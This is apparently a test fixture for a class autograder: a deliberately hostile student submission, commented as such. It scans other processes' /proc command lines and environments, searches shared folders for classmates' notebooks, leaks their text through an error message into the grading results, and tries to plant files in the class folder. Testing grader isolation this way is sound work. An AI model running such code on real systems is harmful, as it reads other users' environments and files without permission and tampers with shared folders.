# In a batch (make grade-all), goes after classmates' work: learns folders from other
# processes' command lines and environments, walks them and the shared temporary folders for
# notebooks, and raises whatever classmate's text it finds from a graded method, so that it
# would land in its own results.json (and the class report). Also tries to plant a file in
# the class folder. Otherwise it is the reference: full marks when it finds nothing.
import os

MARKER = "{{CLASSMATE_MARKER}}"


def folders_named_by_other_processes():
    found = []
    try:
        entries = os.listdir("/proc")
    except OSError:
        return found
    for entry in entries:
        if entry.isdigit() and int(entry) != os.getpid():
            for name in ("cmdline", "environ"):
                try:
                    with open(f"/proc/{entry}/{name}", "rb") as handle:
                        text = handle.read().decode(errors="replace")
                except OSError:
                    continue
                found += [part.split("=", 1)[-1] for part in text.split("\0")]
    return [path for path in found if path.startswith("/") and os.path.isdir(path)]


def classmate_text():
    for top in folders_named_by_other_processes() + ["/tmp", "/var/tmp", "/home", "/srv"]:
        for folder, subfolders, files in os.walk(top):
            if folder.count("/") > 9:
                subfolders[:] = []
            for name in files:
                if name.endswith((".ipynb", ".py")):
                    try:
                        with open(os.path.join(folder, name), errors="replace") as handle:
                            text = handle.read(200_000)
                    except OSError:
                        continue
                    if MARKER in text:
                        start = text.index(MARKER)
                        return text[start:start + 60]
    return None


STOLEN = classmate_text()
for target in ("{{CLASS_DIR}}/planted.txt", "{{CLASS_DIR}}/classmate-a/planted.txt"):
    try:
        with open(target, "w") as handle:
            handle.write("planted by a classmate")
    except OSError:
        pass


class Linear(Linear):
    def forward(self, x):
        if STOLEN:
            raise RuntimeError(f"a classmate wrote: {STOLEN}")
        return super().forward(x)
